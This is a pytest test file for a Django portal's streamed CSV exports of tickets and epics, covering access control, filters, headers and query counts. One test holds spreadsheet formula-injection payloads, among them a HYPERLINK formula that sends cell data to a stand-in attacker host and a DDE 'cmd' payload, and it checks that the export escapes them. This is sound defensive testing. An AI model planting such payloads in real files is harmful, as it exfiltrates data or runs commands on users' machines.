"""CSV exports of tickets and epics: streamed, only what the user may see, with the lists'
filters, safe to open in a spreadsheet, and a fixed number of queries however many rows."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from epics.models import Epic
from requests_app.models import RequestType, Ticket
from tests.factories import EpicFactory, TicketFactory
from tests.portal.pages import sign_in, world
from workflow.exports import cell

TICKETS = "/exports/requests.csv"
EPICS = "/exports/epics.csv"


@pytest.fixture
def demo(db):
    w = world()
    w.filed = TicketFactory(epic=w.mission, title="More pipelines", created_by=w.alice)
    w.triaged = TicketFactory(
        epic=w.payments,
        title="Prod deploy",
        request_type=RequestType.PROD_DEPLOY,
        status=Ticket.Status.TRIAGED,
        created_by=w.alice,
    )
    w.rejected = TicketFactory(
        epic=w.logistics,
        title="Too early",
        status=Ticket.Status.REJECTED,
        rejection_reason="No pipeline yet.",
        created_by=w.alice,
    )
    w.bravo_ticket = TicketFactory(epic=w.bravo_epic, title="Bravo's", created_by=w.bob)
    return w


def download(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == 200, response
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def ids(rows) -> set[int]:
    return {int(row["id"]) for row in rows}


# Who sees what ------------------------------------------------------------------------------------


def test_a_member_exports_only_their_teams_requests(client, demo):
    rows = download(sign_in(client, demo.alice), TICKETS)

    assert ids(rows) == {demo.filed.pk, demo.triaged.pk, demo.rejected.pk}


def test_a_member_of_another_team_exports_only_theirs(client, demo):
    assert ids(download(sign_in(client, demo.bob), TICKETS)) == {demo.bravo_ticket.pk}


@pytest.mark.parametrize("who", ["pat", "dana", "casey", "cleo"])
def test_party_bus_staff_export_every_team(client, demo, who):
    rows = download(sign_in(client, getattr(demo, who)), TICKETS)

    assert ids(rows) == set(Ticket.objects.values_list("pk", flat=True))


def test_another_teams_export_is_a_404(client, demo):
    signed_in = sign_in(client, demo.alice)

    assert signed_in.get(TICKETS, {"team": demo.bravo.pk}).status_code == 404
    assert signed_in.get(EPICS, {"team": demo.bravo.pk}).status_code == 404
    assert signed_in.get(TICKETS, {"team": "x"}).status_code == 404


def test_signing_in_comes_first(client, demo):
    for url in (TICKETS, EPICS):
        response = client.get(url)
        assert response.status_code == 302
        assert "/consent/" in response["Location"] or "/accounts/login/" in response["Location"]


def test_only_get(client, demo):
    signed_in = sign_in(client, demo.alice)
    assert signed_in.post(TICKETS).status_code == 405
    assert signed_in.post(EPICS).status_code == 405


# The list's filters ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filters",
    [
        {},
        {"status": "submitted"},
        {"status": "rejected"},
        {"request_type": "prod_deploy"},
        {"impact_level": "IL4"},
        {"q": "pipe"},
        {"q": f"#{1}"},
        {"q": "payments"},
        {"status": "nonsense"},  # as on the page: a filter that does not parse filters nothing
    ],
)
def test_the_export_holds_what_the_team_page_lists(client, demo, settings, filters):
    settings.PORTAL_PAGE_SIZE = 100
    signed_in = sign_in(client, demo.pat)
    query = {"team": demo.alpha.pk, **filters}

    page = signed_in.get(f"/teams/{demo.alpha.pk}/requests/", filters)
    listed = {ticket.pk for ticket in page.context["page"].object_list}

    assert ids(download(signed_in, TICKETS, **query)) == listed


def test_the_team_page_links_to_its_export_with_its_filters(client, demo):
    page = sign_in(client, demo.alice).get(
        f"/teams/{demo.alpha.pk}/requests/", {"status": "submitted", "page": "1"}
    )
    html = page.content.decode()

    assert f'href="{TICKETS}?status=submitted&amp;team={demo.alpha.pk}"' in html
    assert f'href="{EPICS}?team={demo.alpha.pk}"' in html

    # Filtering swaps only the results: the link there follows the filters.
    swapped = client.get(
        f"/teams/{demo.alpha.pk}/requests/", {"q": "pipe"}, headers={"HX-Request": "true"}
    )
    assert f'href="{TICKETS}?q=pipe&amp;team={demo.alpha.pk}"' in swapped.content.decode()


def test_the_rows_say_what_the_page_says(client, demo):
    rows = {int(row["id"]): row for row in download(sign_in(client, demo.alice), TICKETS)}
    rejected = rows[demo.rejected.pk]

    assert rejected["team"] == "Team Alpha"
    assert rejected["epic"] == "Logistics Tracker"
    assert rejected["status"] == "rejected" and rejected["status_display"] == "Rejected"
    assert rejected["request_type_display"] == "Additional IL2/IL4/IL5 pipeline"
    assert rejected["rejection_reason"] == "No pipeline yet."
    assert rejected["created_by"] == "alice"
    assert rejected["created_at"].endswith("Z")
    assert rejected["link"].endswith(f"/requests/{demo.rejected.pk}/")


def test_epics_export_with_its_filters(client, demo):
    signed_in = sign_in(client, demo.alice)

    assert ids(download(signed_in, EPICS)) == {demo.payments.pk, demo.mission.pk, demo.logistics.pk}
    assert ids(download(signed_in, EPICS, status="pipeline_complete")) == {demo.mission.pk}
    assert ids(download(signed_in, EPICS, q="PAY")) == {demo.payments.pk}
    everyone = download(sign_in(client, demo.pat), EPICS)
    assert ids(everyone) == set(Epic.objects.values_list("pk", flat=True))
    payments = next(row for row in everyone if int(row["id"]) == demo.payments.pk)
    assert payments["status_display"] == "Prod Deploy - Complete"
    assert payments["production_at"].endswith("Z")
    assert payments["requires_new_ctf"] == "no"


def test_a_file_name_says_what_it_holds(client, demo):
    response = sign_in(client, demo.alice).get(TICKETS, {"team": demo.alpha.pk})

    assert response["Content-Disposition"].startswith('attachment; filename="requests-team-alpha-')
    assert response["Cache-Control"] == "private, no-store"


# Safe to open in a spreadsheet -------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_text(client, demo, text):
    TicketFactory(epic=demo.mission, title=text, description=text, created_by=demo.alice)

    rows = download(sign_in(client, demo.alice), TICKETS, q=text.strip()[:5])

    row = next(row for row in rows if row["title"].endswith(text.lstrip("\t\r")[-5:]))
    assert row["title"] == "'" + text
    assert row["description"] == "'" + text


def test_commas_quotes_and_new_lines_survive(client, demo):
    text = 'He said "ship it", then:\nline two; ünïcode ✓'
    TicketFactory(epic=demo.mission, title="Quoted", description=text, created_by=demo.alice)

    rows = download(sign_in(client, demo.alice), TICKETS, q="Quoted")

    assert [row["description"] for row in rows] == [text]


def test_cells():
    assert cell(None) == "" and cell(7) == 7 and cell(True) == "yes"
    assert cell("a=b") == "a=b"
    assert cell("-") == "'-"


# A fixed number of queries -----------------------------------------------------------------------


@pytest.mark.parametrize("url", [TICKETS, EPICS])
def test_an_export_costs_the_same_queries_for_3_or_60_rows(client, demo, url):
    signed_in = sign_in(client, demo.pat)

    def cost() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            rows = download(signed_in, url)
        return len(queries), len(rows)

    cost()  # the session's first request does its own bookkeeping
    few, few_rows = cost()
    for n in range(30):
        epic = EpicFactory(team=demo.alpha, title=f"More {n}")
        TicketFactory(epic=epic, created_by=demo.alice)
    many, many_rows = cost()

    assert many_rows >= few_rows + 30
    assert many == few
